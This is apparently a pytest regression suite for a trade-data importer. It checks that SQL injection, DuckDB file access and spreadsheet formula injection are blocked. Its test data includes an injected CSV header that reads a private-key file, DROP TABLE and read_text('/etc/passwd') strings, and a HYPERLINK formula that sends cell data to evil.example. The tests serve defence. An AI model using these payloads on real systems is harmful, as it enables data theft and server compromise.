"""Injection: nothing typed, uploaded or received is ever read as SQL, a path or query syntax.

The attack that was found: a WITS-matrix file whose header cell starting with ``TradeValue``
closed the SQL the importer built and read any file of the server (the node's private key
among them) into the row report. Header names now come from an allow-list, identifiers are
quoted, and every DuckDB connection is held to the files it is given.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import duckdb
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from bureau.core.errors import ValidationFailed
from bureau.trade import store
from bureau.trade.importing import Options, import_file

SECRET = "-----BEGIN PRIVATE KEY----- canary 4f1d"


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    """A file the server can read but no import may: it stands for BUREAU_HOME/node_key."""
    path = tmp_path / "home" / "node_key"
    path.parent.mkdir()
    path.write_text(SECRET)
    return path


def hostile_matrix(folder: Path, secret: Path, header_cell: str | None = None) -> Path:
    """The file of the attack: its value column's name ends the importer's SQL."""
    injected = header_cell or (
        f"TradeValue\"), (SELECT content FROM read_text('{secret}')) AS value, "
        "1.0 AS scale, '' AS quantity, --"
    )
    text = (
        f"{injected};ReporterISO3;PartnerISO3;Year;TradeFlowCode;ProductCode;TradeValue\n"
        "x;AZE;PAK;2009;6;Total;94.096\n"
    )
    path = folder / "matrix.csv"
    path.write_text(text)
    return path


def everything_said(result: Any) -> str:
    return repr(result)


def test_a_header_cell_cannot_reach_the_sql(tmp_path, secret_file, trade_dir):
    try:
        result = import_file(hostile_matrix(tmp_path, secret_file), format="wits-matrix")
    except ValidationFailed as refused:
        said = refused.message
    else:
        said = everything_said(result)
    assert SECRET not in said
    assert "BEGIN PRIVATE KEY" not in said


def test_the_import_page_does_not_read_the_key_either(client, staff_az, tmp_path, secret_file):
    client.force_login(staff_az)
    upload = SimpleUploadedFile(
        "matrix.csv", hostile_matrix(tmp_path, secret_file).read_bytes(), "text/csv"
    )
    response = client.post("/trade/import/", {"file": upload, "format": "wits-matrix"})
    assert response.status_code in (200, 422)
    assert b"BEGIN PRIVATE KEY" not in response.content
    # The allow-listed TradeValue column was read; the injected one was not a column at all.
    assert store.query("SELECT value_usd FROM flows") == [(94.096,)]


@pytest.mark.parametrize(
    "cell",
    [
        'Year"; DROP TABLE staged; --',
        'TradeValue in 1000 USD" || (SELECT 1) || "',
        'TradeValue" , "x',
    ],
)
def test_odd_header_names_are_refused_or_ignored_never_run(tmp_path, secret_file, cell):
    path = hostile_matrix(tmp_path, secret_file, header_cell=cell)
    try:
        result = import_file(path, format="wits-matrix")
    except ValidationFailed as refused:
        assert refused.errors[0].field == "file"
    else:
        assert SECRET not in everything_said(result)


def test_figure_rows_with_quotes_are_data(tmp_path, trade_dir):
    source = "O'Brien \"); SELECT content FROM read_text('/etc/passwd'); --"
    text = (
        "period,reporter,partner,flow,value,unit,source,source_url\n"
        f'2022,AZE,PAK,export,7.6,USD million,"{source.replace(chr(34), chr(34) * 2)}",\n'
    )
    path = tmp_path / "figures.csv"
    path.write_text(text)
    result = import_file(path, format="figures")
    assert not result.errors
    assert store.query("SELECT DISTINCT source FROM flows") == [(source,)]


def test_import_options_are_values_not_sql(tmp_path, trade_dir, secret_file):
    path = tmp_path / "figures.csv"
    path.write_text(
        "period,reporter,partner,flow,value,unit,source,source_url\n"
        "2022,AZE,PAK,export,7.6,USD million,,\n"
    )
    source = f"x' || (SELECT content FROM read_text('{secret_file}')) || '"
    result = import_file(path, format="figures", options=Options(source=source))
    assert store.query("SELECT DISTINCT source FROM flows") == [(source,)]
    assert result.dataset is not None and SECRET not in result.dataset.source


def test_duckdb_reaches_only_what_it_is_given(tmp_path, secret_file):
    allowed = tmp_path / "ok.csv"
    allowed.write_text("a\n1\n")
    con = store.connect(files=[allowed], folders=[tmp_path / "out"])
    assert con.execute(f"SELECT a FROM read_csv({store.sql_literal(str(allowed))})").fetchall()
    for sql in (
        f"SELECT content FROM read_text({store.sql_literal(str(secret_file))})",
        "SELECT * FROM read_csv('https://example.org/data.csv')",
        "SELECT * FROM glob('/etc/*')",
        "INSTALL httpfs",
        "LOAD httpfs",
        f"ATTACH {store.sql_literal(str(tmp_path / 'other.db'))}",
    ):
        with pytest.raises(duckdb.Error):
            con.execute(sql)
    for sql in (
        "SET enable_external_access = true",
        "RESET lock_configuration",
        "SET allowed_directories = ['/']",
    ):
        with pytest.raises(duckdb.Error):
            con.execute(sql)


def test_the_readers_engine_is_held_too(trade_dir, secret_file):
    with pytest.raises(duckdb.Error):
        store.query(f"SELECT content FROM read_text({store.sql_literal(str(secret_file))})")


@pytest.mark.django_db
@pytest.mark.parametrize(
    "q",
    ['"', "rice OR *", "title:rice", "NEAR(a b)", "x' OR 1=1 --", 'a"b', "(", "^", "-rice"],
)
def test_search_words_are_never_query_syntax(client, q):
    response = client.get("/api/v1/items", {"q": q})
    assert response.status_code == 200, response.content
    page = client.get("/items/", {"q": q})
    assert page.status_code == 200


# --- Formulas in the spreadsheets the bureau writes ---------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Source")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_trade_tables_neutralise_formulas(client, tmp_path, trade_dir, formula):
    import csv
    import io

    path = tmp_path / "figures.csv"
    with path.open("w", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["period", "reporter", "partner", "flow", "value", "unit", "source",
                         "source_url"])  # fmt: skip
        writer.writerow(["2022", "AZE", "PAK", "export", "7.6", "USD million", formula, ""])
    result = import_file(path, format="figures")
    assert not result.errors, result.errors
    response = client.get("/trade/tables/bilateral.csv")
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    stored = formula.strip()  # the importer trims cells
    assert "'" + stored in cells
    assert stored not in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


def test_numbers_stay_numbers():
    from bureau.core.cells import safe_row

    assert safe_row([-5, 1.5, "-5", "rice", None]) == [-5, 1.5, "'-5", "rice", None]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_import_templates_hold_no_formula(fmt):
    import io

    import openpyxl

    from bureau.catalog.importing.template import template_file

    data = template_file(fmt)
    if fmt == "csv":
        text = data.decode("utf-8-sig")
        assert not any(line.startswith(("=", "+", "@")) for line in text.splitlines())
        return
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)
